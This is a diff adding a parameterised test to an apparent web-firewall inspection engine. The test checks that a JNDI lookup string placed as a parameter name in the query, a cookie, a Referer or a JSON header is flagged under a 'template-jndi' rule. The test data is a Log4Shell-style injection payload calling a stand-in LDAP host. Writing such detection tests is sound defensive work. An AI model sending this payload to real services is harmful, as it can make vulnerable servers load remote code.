@@ -152,3 +152,17 @@ test('a header value that another request hid from the inspection is inspected i
   expect(hidden?.rule).toBe('protocol-too-many-values');
   expect(next).toMatchObject({ rule: expect.stringMatching(/^sqli-/), place: 'header' });
 });
+
+test.each([
+  ['Cookie', (key: string) => `${key}=1`],
+  ['Referer', (key: string) => `https://a.example/?${encodeURIComponent(key)}=1`],
+  ['X-Id', (key: string) => JSON.stringify({ [key]: 1 })],
+])('a name in the header %s is inspected after a request that had it in its query, too', async (header, valueOf) => {
+  const key = `\${jndi:ldap://${header}.example/x}`;
+  const headers = [[header, valueOf(key)]] as const;
+  const [, next] = await engine.judge([
+    { target: `/?${encodeURIComponent(key)}=1`, headers, body: '' },
+    { target: '/', headers, body: '' },
+  ]);
+  expect(next).toMatchObject({ rule: 'template-jndi', place: 'name' });
+});
